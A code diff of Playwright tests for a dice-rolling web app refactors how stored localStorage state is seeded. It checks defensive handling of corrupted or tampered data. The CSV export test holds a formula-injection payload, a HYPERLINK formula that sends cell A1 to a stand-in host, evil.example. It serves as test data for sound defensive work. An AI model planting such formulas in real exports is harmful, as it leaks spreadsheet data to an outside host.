@@ -38,14 +38,6 @@ def app(new_app: Any, site: str) -> Iterator[App]:
     app.context.close()
 
 
-def store(app: App, values: dict[str, Any]) -> None:
-    app.page.evaluate(
-        """(values) => Object.entries(values).forEach(
-          ([k, v]) => localStorage.setItem(k, JSON.stringify(v)))""",
-        values,
-    )
-
-
 def roll_works(app: App, seed: int = 11) -> None:
     app.page.click("#tab-roll")
     app.page.wait_for_selector("#roll-button:not([disabled])")
@@ -73,14 +65,12 @@ def link_of(payload: Any) -> str:
 def test_systems_cache_with_string_choices_still_starts(app: App) -> None:
     """A description kept by another build (another digest) is drawn while the engine starts:
     damaged, it is set aside and told, and the engine's own answer is drawn."""
-    app.reset()
     description = local_handle({"op": "systems"})["result"]
     description["digest"] = "0123456789abcdef"  # kept by another build
     for field in description["systems"][0]["fields"]:
         if "choices" in field:
             field["choices"] = "revised"  # `choices.some is not a function` while drawn
-    store(app, {"pyrules:systems": description, "pyrules:state": {"system": "pool"}})
-    app.reload()
+    app.reset(stored={"pyrules:systems": description, "pyrules:state": {"system": "pool"}})
     roll_works(app)
     assert "la copie locale des systèmes de jeu" in notice_text(app, "corrupt")
     assert json.loads(quarantined(app, "pyrules:systems")[-1]) == description
@@ -91,13 +81,11 @@ def test_a_kept_description_that_claims_the_build_s_digest_is_not_read(app: App)
     """Issue 40: the page trusts only the digest of the description its build baked in. A
     kept one that claims that digest, whatever it holds, is not drawn: the build's own is,
     and the engine, saying the same digest at ready, is not asked for it."""
-    app.reset()
     description = local_handle({"op": "systems"})["result"]
     for field in description["systems"][0]["fields"]:
         if field["name"] == "pot":
             field["max"] = 3  # a bound the engine has not
-    store(app, {"pyrules:systems": description, "pyrules:state": {"system": "pool"}})
-    app.reload()
+    app.reset(stored={"pyrules:systems": description, "pyrules:state": {"system": "pool"}})
     roll_works(app)
     assert app.page.get_attribute("#f-actor-pool-pot", "max") == "40"
     kept = app.page.evaluate("() => JSON.parse(localStorage.getItem('pyrules:systems'))")
@@ -105,13 +93,11 @@ def test_a_kept_description_that_claims_the_build_s_digest_is_not_read(app: App)
 
 
 def test_history_entry_with_a_trap_param_is_set_aside(app: App) -> None:
-    app.reset()
     bad = entry(
         "h-trap", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "value": TRAP}
     )
     good = entry("h-good", "2026-01-01T10:00:00.000Z")
-    store(app, {"pyrules:history": [bad, good]})
-    app.reload()
+    app.reset(stored={"pyrules:history": [bad, good]})
     roll_works(app)
     assert "l’historique des jets" in notice_text(app, "corrupt")
     assert app.page.locator("#history .history-entry[data-id=h-good]").count() == 1
@@ -123,10 +109,8 @@ def test_history_entry_with_a_trap_param_is_set_aside(app: App) -> None:
 
 def test_history_entry_that_does_not_fit_its_system_is_set_aside(app: App) -> None:
     """Deep check against the engine's description: a key the system has not."""
-    app.reset()
     odd = entry("h-odd", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "pot": 3})
-    store(app, {"pyrules:history": [odd, entry("h-good", "2026-01-01T10:00:00.000Z")]})
-    app.reload()
+    app.reset(stored={"pyrules:history": [odd, entry("h-good", "2026-01-01T10:00:00.000Z")]})
     app.page.wait_for_selector("#history .history-entry[data-id=h-good]")
     assert app.page.locator("#history .history-entry[data-id=h-odd]").count() == 0
     assert any("h-odd" in raw for raw in quarantined(app, "pyrules:history"))
@@ -242,14 +226,12 @@ def test_two_tabs_rolling_at_once_lose_nothing_and_see_each_other(app: App) -> N
 
 
 def test_history_keeps_every_roll_and_pages_the_list(app: App) -> None:
-    app.reset()
     many = [
         entry(f"h-{i:04d}", f"2026-01-01T{10 + i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}.000Z")
         for i in range(600)
     ]
     many.reverse()  # newest first
-    store(app, {"pyrules:history": many})
-    app.reload()
+    app.reset(stored={"pyrules:history": many})
     roll_works(app)
     assert len(history_ids(app)) == 601
     assert app.page.locator("#history .history-entry").count() == 201
@@ -296,18 +278,15 @@ def test_character_with_id_proto_is_kept_without_indexeddb(
 
 
 def test_csv_export_neutralises_formulas(app: App) -> None:
-    app.reset()
     formula = '=HYPERLINK("http://evil.example/?"&A1;"ok")'
-    store(
-        app,
-        {
+    app.reset(
+        stored={
             "pyrules:history": [
                 entry("h-f1", "2026-01-01T10:00:01.000Z", who={"name": formula, "label": "+1"}),
                 entry("h-f2", "2026-01-01T10:00:00.000Z", who={"name": "@SUM(1)", "label": "-2"}),
             ]
         },
     )
-    app.reload()
     with app.page.expect_download() as info:
         app.page.click("#export-csv")
     rows = list(csv.reader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8-sig"))))
@@ -382,13 +361,9 @@ def test_imported_character_with_faces_is_refused(app: App, tmp_path: Path) -> N
 
 
 def test_luck_counts_seeded_rolls_only(app: App) -> None:
-    app.reset()
     physical = entry("h-phys", "2026-01-01T10:00:01.000Z", seed=None, physical=True, luck=1.0)
-    store(
-        app,
-        {"pyrules:history": [physical], "pyrules:session": {"start": "2026-01-01T00:00:00.000Z"}},
-    )
-    app.reload()
+    session = {"start": "2026-01-01T00:00:00.000Z"}
+    app.reset(stored={"pyrules:history": [physical], "pyrules:session": session})
     app.page.click("#tab-stats")
     app.page.wait_for_selector("#luck-histogram")
     assert app.page.get_attribute("#luck-histogram", "data-judged") == "0"
